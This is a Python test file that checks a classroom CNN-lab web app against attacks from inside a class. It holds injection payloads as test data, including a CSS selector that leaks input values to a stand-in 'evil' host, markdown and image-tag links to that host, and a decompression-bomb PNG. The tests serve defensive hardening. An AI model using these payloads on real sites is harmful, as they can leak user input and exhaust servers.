"""A class cannot be attacked from inside (issue 20): each row of the issue's table, reproduced
and held off. Links, lessons and uploads are data; anything a student can make the server build
or decode is checked first; the teacher key resists guessing; jobs and saves belong to someone."""

import io
import json
import logging
import os
import threading
import time
import tomllib

import numpy as np
import pytest
import streamlit as st
from PIL import Image
from streamlit.testing.v1 import AppTest

from tests.shipped import ROOT, shown
from tests.test_presenter import open_page

TIMEOUT = 240


@pytest.fixture(autouse=True)
def fresh(monkeypatch, tmp_path):
    monkeypatch.setenv("CNN_LAB_RUNS", str(tmp_path / "runs"))
    st.cache_resource.clear()
    st.cache_data.clear()


def _styles(at: AppTest) -> str:
    return " ".join(h.proto.body for h in at.get("html"))


# 1. Nothing a link or a lesson carries becomes style or markup.

def test_a_link_cannot_put_style_on_the_page():
    attack = "sd_padding,sd_x} body{display:none} input[value^=a]{background:url(http://evil/a)} .b{"
    at = open_page("strides", {"present": "1", "hide": attack})
    style = _styles(at)
    assert ".st-key-sd_padding" in style
    assert "evil" not in style and "body{" not in style and "sd_x" not in style


def test_a_lesson_cannot_put_style_or_markup_on_the_page():
    from ui.scenes import lesson_from_json

    raw = {"format": "cnn-lab-lesson/1", "title": "[click](http://evil)",
           "scenes": [{"page": "strides", "title": "![x](http://evil/t.png)", "note": "<img src=http://evil/t.png>",
                       "hidden": ["sd_padding", "sd_a}body{color:red"], "controls": {"sd_stride": 2}}]}
    lesson, _ = lesson_from_json(json.dumps(raw))
    assert lesson.scenes[0].hidden == ["sd_padding"]
    at = open_page("strides", presenting=True, lesson=lesson, lesson_index=0)
    assert "evil" not in _styles(at)
    notes = [m.value for m in at.markdown if "evil/t.png" in m.value]
    assert notes and all("<img" not in note for note in notes)   # the note is shown as text
    assert any("&lt;img src=http://evil/t.png&gt;" in note for note in notes)
    assert all("](" not in m.value.replace("\\](", "") for m in at.markdown)   # no live markdown link anywhere


def test_link_problems_are_shown_as_text():
    at = open_page("softmax", {"[click me](http://evil)": "1"})
    warning = " ".join(w.value for w in at.warning)
    assert "click me" in shown(warning) and "](http" not in warning


def test_a_link_value_a_control_cannot_take_is_dropped_and_named(data_available):
    at = open_page("softmax", {"shift": "1000", "scale": "abc", "temperature": "0.5"})
    warning = shown(" ".join(w.value for w in at.warning))
    assert "shift = 1000" in warning and "greater than the largest value 20.0" in warning
    assert "scale = 'abc'" in warning
    assert at.session_state["temperature"] == 0.5           # what fits is opened
    assert at.slider(key="shift").value == 5.0              # what does not shows the usual value
    at.slider(key="shift").set_value(2.0).run()             # and the page goes on as usual
    assert not at.exception and not at.warning


def test_a_page_that_fails_on_a_links_values_opens_with_its_usual_ones(data_available):
    at = open_page("strides", {"sd_kernel": "2.5", "sd_stride": "1"})   # a slider takes 2.5; the page's maths does not
    assert "cannot show the settings this link brings" in shown(" ".join(w.value for w in at.warning))
    assert at.slider(key="sd_kernel").value == 3 and at.slider(key="sd_stride").value == 2


def test_a_lesson_scene_with_a_value_its_control_cannot_take_opens_without_it(data_available):
    from tests.test_presenter import scenes_panel
    from ui.scenes import Lesson, Scene

    lesson = Lesson("odd", [Scene("softmax", "first"), Scene("strides", "too big", {"sd_stride": 3, "sd_kernel": 70})])
    at = open_page("softmax", lesson=lesson, lesson_index=0)
    scenes_panel(at).button(key="panel_next").click().run()
    assert not at.exception and at.title[0].value == "Strides and the checkerboard"
    assert at.slider(key="sd_stride").value == 3 and at.slider(key="sd_kernel").value == 3
    assert "sd_kernel = 70" in shown(" ".join(w.value for w in at.warning))


# 2. One compute budget, checked before anything is built.

def test_a_huge_net_in_a_link_is_refused_before_it_is_built(monkeypatch):
    import models.spec as spec_module

    huge = json.dumps({"format": "cnn-lab-spec/1",
                       "layers": [{"type": "conv", "out": 2048, "kernel": 11, "padding": 5}] * 3 + [{"type": "gap"}]},
                      separators=(",", ":"))
    monkeypatch.setattr(spec_module, "build", lambda *a, **k: pytest.fail("a net beyond the budget was built"))
    at = open_page("lab", {"lab_layers": huge})
    assert any("this classroom allows up to 512" in shown(e.value) for e in at.error)


@pytest.mark.parametrize("layer, words", [({"type": "![x](http://evil/x.png)"}, "unknown layer type"),
                                          ({"type": ["conv"]}, "must be a word or a number"),
                                          ({"type": "conv", "out": {"a": 1}}, "must be a word or a number")])
def test_a_layer_from_a_link_is_text_and_plain_values(layer, words):
    text = json.dumps({"format": "cnn-lab-spec/1", "layers": [layer, {"type": "gap"}]}, separators=(",", ":"))
    at = open_page("lab", {"lab_layers": text})
    errors = " ".join(e.value for e in at.error)
    assert words in shown(errors) and "](http" not in errors


def test_link_values_over_the_size_limit_are_left_out():
    at = open_page("lab", {"lab_layers": "x" * 5000})
    assert any("characters long" in shown(w.value) for w in at.warning)


def test_the_kernels_table_at_its_largest_side_needs_no_forward_pass(monkeypatch, data_available):
    import models.kernels as kernels_module

    monkeypatch.setattr(kernels_module, "receptive_fields", lambda *a: pytest.fail("a forward pass"))
    at = open_page("kernels", kn_side=1024, kn_depth=10, kn_pool=5)
    table = [d.value for d in at.dataframe if "course notes' rule" in d.value.columns][0]
    assert table["output"].iloc[0] == "1022×1022×32" and len(table) == 12


# 4. Images are size-checked before they are decoded, wherever they come from.

def _png(width: int, height: int) -> bytes:
    buffer = io.BytesIO()
    Image.new("L", (width, height)).save(buffer, "PNG")
    return buffer.getvalue()


def test_a_canvas_state_holding_a_huge_png_is_refused_before_decoding(monkeypatch):
    from models import inputs

    bomb = _png(9000, 9000)   # a few kB of zeros, 81 M pixels once decoded
    monkeypatch.setattr(Image.Image, "convert", lambda *a, **k: pytest.fail("decoded the canvas image"))
    with pytest.raises(inputs.InputError, match="larger than a drawing"):
        inputs.canvas_image(bomb)
    with pytest.raises(inputs.InputError, match="larger than a drawing"):
        inputs.canvas_image(b"x" * (inputs.MAX_CANVAS_BYTES + 1))


@pytest.mark.parametrize("size", [(1, 10_000), (10_000, 1), (4000, 100)])
def test_extreme_aspect_ratios_are_refused_before_any_resize(size, monkeypatch):
    from models import inputs

    picture = _png(*size)
    monkeypatch.setattr(Image.Image, "load", lambda *a, **k: pytest.fail("decoded a picture it should refuse"))
    with pytest.raises(inputs.InputError, match="pixels"):
        inputs.check_image(picture)


def test_a_drawing_that_is_not_strokes_is_refused_everywhere():
    from ui.scenes import Digit, DrawingError, checked_drawing

    image_object = {"objects": [{"type": "image", "src": "data:image/png;base64," + "A" * 100}]}
    with pytest.raises(DrawingError, match="other than strokes"):
        checked_drawing(image_object)
    with pytest.raises(DrawingError, match="larger"):
        checked_drawing({"objects": [{"type": "path", "path": [["M", 0, 0]] * 100_000}]})
    with pytest.raises(ValueError):
        Digit.from_json({"image": "A" * 1048, "source": "x", "drawing": image_object})


# 3/5/6. Sizes: messages, uploads, stored drawings.

def test_the_server_accepts_only_what_the_app_needs():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["server"]["maxUploadSize"] <= 10 and config["server"]["maxMessageSize"] <= 16


def test_a_session_keeps_only_its_latest_uploads(monkeypatch):
    from streamlit.runtime.memory_uploaded_file_manager import MemoryUploadedFileManager
    from streamlit.runtime.uploaded_file_manager import UploadedFileRec

    from ui import inputs

    manager = MemoryUploadedFileManager("/upload")

    class FakeRuntime:
        uploaded_file_mgr = manager

        @staticmethod
        def exists():
            return True

        @staticmethod
        def instance():
            return FakeRuntime

    class Context:
        session_id = "student"

    monkeypatch.setattr("streamlit.runtime.Runtime", FakeRuntime)
    monkeypatch.setattr("streamlit.runtime.scriptrunner.get_script_run_ctx", lambda: Context)
    for number in range(50):
        manager.add_file("student", UploadedFileRec(f"f{number}", f"{number}.png", "image/png", b"x" * 2**20))
        inputs.limit_uploads()
    kept = manager.file_storage["student"]
    assert list(kept) == [f"f{n}" for n in range(44, 50)] and sum(len(f.data) for f in kept.values()) <= 7 * 2**20


def test_shared_digits_are_capped_when_saved_and_pruned(tmp_path):
    from ui.scenes import Digit, DigitStore

    store = DigitStore(tmp_path)
    huge = {"objects": [{"type": "path", "path": [["M", 0, 0]] * 100_000}]}
    digit_id = store.save(Digit(np.zeros((28, 28), np.uint8), "your drawing", huge))
    assert store.load(digit_id).drawing is None and (tmp_path / f"{digit_id}.json").stat().st_size < 5_000
    stale = tmp_path / "abc.123.tmp"
    stale.write_text("half")
    old = time.time() - 2 * DigitStore.STALE_TMP
    os.utime(stale, (old, old))
    ancient = tmp_path / f"{'0' * 12}.json"
    ancient.write_text("{}")
    os.utime(ancient, (old - DigitStore.MAX_AGE, old - DigitStore.MAX_AGE))
    store.prune(force=True)
    assert not stale.exists() and not ancient.exists() and (tmp_path / f"{digit_id}.json").exists()


# 7. The teacher key.

def _try_keys(keys: list) -> None:
    import streamlit as st

    from ui.teacher import try_key

    for key in keys:
        st.write(str(try_key(key)))


@pytest.fixture
def fresh_teacher(monkeypatch):
    from ui import teacher

    monkeypatch.setenv("CNN_LAB_TEACHER_KEY", "owl-and-pussycat-1871")
    monkeypatch.setattr(teacher, "_server_failures", teacher.deque())
    monkeypatch.setattr(teacher, "_server_locked_until", 0.0)
    return teacher


def test_each_wrong_key_makes_the_next_try_wait_and_a_run_of_them_locks_out(fresh_teacher, caplog, monkeypatch):
    clock = [1000.0]
    monkeypatch.setattr(fresh_teacher.time, "monotonic", lambda: clock[0])
    at = AppTest.from_function(_try_keys, args=(["cat", "dog"],), default_timeout=TIMEOUT)
    with caplog.at_level(logging.WARNING, logger="cnn_lab.teacher"):
        at.run()
    said = [m.value for m in at.markdown]
    assert said[0] == "That is not the teacher key." and said[1].startswith("Wait 2 s")
    for _ in range(fresh_teacher.SESSION_TRIES):
        clock[0] += 2.0 ** fresh_teacher.SESSION_TRIES + 1   # past each wait, within the lockout
        at.run()
    clock[0] += 2.0 ** fresh_teacher.SESSION_TRIES + 1
    at.run()
    assert "Too many wrong keys" in at.markdown[0].value
    at2 = AppTest.from_function(_try_keys, args=(["owl-and-pussycat-1871"],), default_timeout=TIMEOUT).run()
    assert at2.markdown[0].value == "None"   # another browser with the right key is not locked out
    assert "wrong key from" in caplog.text and "cat" not in caplog.text and "owl" not in caplog.text


def test_many_wrong_keys_from_anywhere_pause_unlocking_for_the_server(fresh_teacher, monkeypatch):
    clock = [5000.0]
    monkeypatch.setattr(fresh_teacher.time, "monotonic", lambda: clock[0])
    for student in range(fresh_teacher.SERVER_TRIES):
        AppTest.from_function(_try_keys, args=([f"guess {student}"],), default_timeout=TIMEOUT).run()
        clock[0] += 1
    at = AppTest.from_function(_try_keys, args=(["owl-and-pussycat-1871"],), default_timeout=TIMEOUT).run()
    assert "unlocking is paused" in at.markdown[0].value


def test_a_short_key_is_warned_about_in_the_log_not_on_the_page(fresh_teacher, caplog, monkeypatch):
    monkeypatch.setattr(fresh_teacher, "_warned_short", False)
    with caplog.at_level(logging.WARNING, logger="cnn_lab.teacher"):
        fresh_teacher.warn_if_short("owl")
    assert "has 3 characters" in caplog.text


# 8. Jobs belong to someone: a link cannot follow another session's job.

def test_a_job_cannot_be_followed_by_link(data_available):
    from models.jobs import RUNNING, worker

    release = threading.Event()
    blocker = worker().submit("someone's run", "someone", lambda ctx: release.wait(30), slot="sd")
    try:
        while blocker.status != RUNNING:
            time.sleep(0.01)
        at = open_page("strides", {"sd_job": str(blocker.id)})
        assert not any(b.key == "sd_stop" for b in at.button) and not at.get("progress")
        assert "sd_job" not in {k for k in at.query_params}
    finally:
        release.set()


# 9. Saves do not race.

def test_two_saves_under_one_name_never_overwrite_each_other(tmp_path):
    from models import build, checkpoints

    widths = [[8, 16, 8, 16], [4, 8, 4, 8]]
    nets = [build("gap-mnist", widths=w) for w in widths]
    paths = [None, None]
    barrier = threading.Barrier(2)

    def save(index):
        barrier.wait()
        paths[index] = checkpoints.save(tmp_path / "class-net.pt", nets[index], arch="gap-mnist",
                                        arch_kwargs={"widths": widths[index]}, init_state_dict=None,
                                        metadata={"name": f"net {index}"}, overwrite=False)

    threads = [threading.Thread(target=save, args=(i,)) for i in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(set(paths)) == 2
    for index, path in enumerate(paths):
        card = json.loads(path.with_suffix(".json").read_text())
        assert card["sha256"] == checkpoints.file_digest(path) and card["name"] == f"net {index}"


# 11. Names from students are text.

def test_a_saved_net_named_with_markup_is_shown_as_text(monkeypatch, tmp_path, data_available):
    from tests.apptest import run, run_until

    monkeypatch.setenv("CNN_LAB_RUNS", str(tmp_path))
    at = run("pages/lab.py", lab_train_limit=1024, lab_epochs=1)
    at.button(key="lab_train").click().run()
    run_until(at, lambda at: bool(at.success))
    at.text_input(key="lab_name").input("[free](http://evil) ![t](http://evil/t.png)").run()
    at.button(key="lab_save").click().run()
    message = " ".join(s.value for s in at.success)
    assert "Saved as" in message and "](" not in message.replace("\\](", "") and "\\[free\\]" in message
    board = [d.value for d in at.dataframe if "meets the assignment" in d.value.columns][0]
    assert board["name"].iloc[0] == "[free](http://evil) ![t](http://evil/t.png)"   # as typed, in a table cell
